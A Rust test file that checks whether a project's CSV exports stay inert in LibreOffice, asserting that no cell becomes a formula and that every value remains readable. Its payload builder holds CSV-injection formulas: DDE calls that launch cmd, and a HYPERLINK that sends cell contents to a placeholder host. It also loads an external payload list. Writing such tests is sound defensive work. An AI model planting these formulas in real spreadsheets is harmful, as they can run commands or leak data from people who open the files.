//! CSV in a spreadsheet: nothing becomes a formula, and what a person wrote can still be read.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use courtwatch::present::{assemble::Tagged, briefing_csv, list, visible::visible};
use quick_xml::{Reader, events::Event};

use crate::briefings::{brief, quote, tagged};
use crate::capture;
use crate::lists::filing;
use crate::office::folder;
use crate::tools::{output, tool};

/// Payloads of our own: each sign that begins a formula, alone and behind what a spreadsheet may pass over.
fn payloads() -> Vec<String> {
    let formulas = ["1+1", "SUM(1;2)", "cmd|' /C calc'!A0", "HYPERLINK(\"http://asked.example/\"&A1;\"x\")"];
    let mut payloads = Vec::new();
    for sign in ["=", "+", "-", "@", "＝", "＋", "－", "＠", "=-", "+=", "−", "﹦"] {
        for before in
            ["", " ", "   ", "\t", "\r", "\n", "\r\n", "\"", "'", ";", ",", "\u{a0}", "\u{200b}", "\u{feff}"]
        {
            payloads.extend(formulas.iter().map(|formula| format!("{before}{sign}{formula}")));
        }
    }
    payloads.extend(
        ["{=1+1}", "DDE(\"cmd\";\"/C calc\";\"x\")", "x;=1+1", "x\t=1+1", "x\n=1+1", "a\";=1+1;\""]
            .map(str::to_owned),
    );
    if let Some(list) = capture("csv_injection/payloadbox_csv-payload.txt") {
        payloads.extend(list.lines().filter(|line| !line.is_empty()).map(str::to_owned));
    }
    payloads
}

fn briefing(payloads: &[String]) -> String {
    let tags = payloads.iter().enumerate().map(|(place, payload)| Tagged {
        note: Some(payload.clone()),
        quote: Some(quote(payload, true)),
        by: payload.clone(),
        ..tagged(&format!("{place:04}"), "undue-delay", &format!("ICC-02/99-01/26-{place}"), payload)
    });
    let mut out = Vec::new();
    briefing_csv::write(&brief(tags.collect()), &mut out).unwrap();
    String::from_utf8(out).unwrap()
}

fn filings(payloads: &[String]) -> String {
    let mut out = Vec::new();
    list::csv(payloads.iter().map(|payload| filing(payload)), &mut out).unwrap();
    String::from_utf8(out).unwrap()
}

/// Opens files in LibreOffice, which splits at this sign and reckons whatever it takes for a formula, and saves them
/// as XML. `None` where it is not there.
fn opened(files: &[PathBuf], separator: char, name: &str) -> Option<Vec<Sheet>> {
    let soffice = tool("soffice")?;
    let folder = folder(name);
    let profile = format!("-env:UserInstallation=file://{}", folder.join("profile").display());
    let filter =
        format!("--infilter=CSV:{},34,76,1,,0,false,true,false,false,false,-1,true", u32::from(separator));
    let mut command = Command::new(soffice);
    command
        .args([&profile, "--headless", &filter, "--convert-to", "fods", "--outdir"])
        .arg(&folder)
        .args(files);
    output(&mut command);
    let saved = |file: &PathBuf| folder.join(file.with_extension("fods").file_name().unwrap());
    Some(files.iter().map(|file| Sheet::read(&saved(file))).collect())
}

/// What LibreOffice took for formulas and links, and the words of each cell.
#[derive(Default)]
struct Sheet {
    formulas: Vec<String>,
    words: Vec<String>,
}

impl Sheet {
    fn read(path: &Path) -> Sheet {
        let text = fs::read_to_string(path).unwrap();
        let mut reader = Reader::from_str(&text);
        let mut sheet = Sheet::default();
        let mut cell: Option<String> = None;
        loop {
            match reader.read_event().unwrap() {
                Event::Eof => return sheet,
                Event::Start(element) | Event::Empty(element) => {
                    let name = element.name();
                    if name.as_ref().contains("dde") {
                        sheet.formulas.push(name.as_ref().to_owned());
                    }
                    for attribute in element.attributes().map(Result::unwrap) {
                        if attribute.key.as_ref() == "table:formula" {
                            sheet.formulas.push(attribute.value.clone().into_owned());
                        }
                    }
                    if name.as_ref() == "table:table-cell" {
                        cell = Some(String::new());
                    }
                }
                Event::Text(words) => cell.iter_mut().for_each(|cell| cell.push_str(&words)),
                Event::GeneralRef(name) => cell.iter_mut().for_each(|cell| cell.push(sign(&name))),
                Event::End(element) if element.name().as_ref() == "table:table-cell" => {
                    sheet.words.extend(cell.take());
                }
                _ => {}
            }
        }
    }
}

fn sign(name: &str) -> char {
    match name {
        "lt" => '<',
        "gt" => '>',
        "amp" => '&',
        "quot" => '"',
        "apos" => '\'',
        other => {
            let code = other.trim_start_matches("#x");
            char::from_u32(u32::from_str_radix(code, 16).unwrap()).unwrap()
        }
    }
}

/// Letters alone: white space and the apostrophes that keep a cell text are no words.
fn letters(text: &str) -> String {
    visible(text)
        .chars()
        .filter(|c| !c.is_whitespace() && !matches!(c, '\'' | '\u{200b}' | '\u{feff}'))
        .collect()
}

#[test]
fn no_cell_is_a_formula_and_every_payload_can_be_read() {
    let payloads = payloads();
    let folder = folder("csv");
    let save = |name: &str, text: &str| {
        let path = folder.join(name);
        fs::write(&path, text).unwrap();
        path
    };
    let files = [
        save("briefing.csv", &briefing(&payloads)),
        save("filings.csv", &filings(&payloads)),
        save("raw.csv", "a,b\n=1+1,\"=2+2\"\n"),
    ];
    let Some(sheets) = opened(&files, ',', "csv-comma") else { return };
    assert_eq!(sheets[2].formulas.len(), 2, "a formula would be seen: {:?}", sheets[2].formulas);
    for sheet in &sheets[..2] {
        assert_eq!(sheet.formulas, Vec::<String>::new());
        let words: Vec<String> = sheet.words.iter().map(|words| letters(words)).collect();
        for payload in &payloads {
            let found = words.iter().filter(|words| **words == letters(payload)).count();
            assert!(found >= 1, "{payload:?} is not to be read");
        }
    }
}

#[test]
fn no_cell_is_a_formula_where_a_spreadsheet_splits_elsewhere() {
    let payloads = payloads();
    for (separator, name) in [(';', "csv-semicolon"), ('\t', "csv-tab")] {
        let path = folder(&format!("{name}-in")).join("briefing.csv");
        fs::write(&path, briefing(&payloads)).unwrap();
        let Some(sheets) = opened(&[path], separator, name) else { return };
        assert_eq!(sheets[0].formulas, Vec::<String>::new(), "{separator:?}");
    }
}
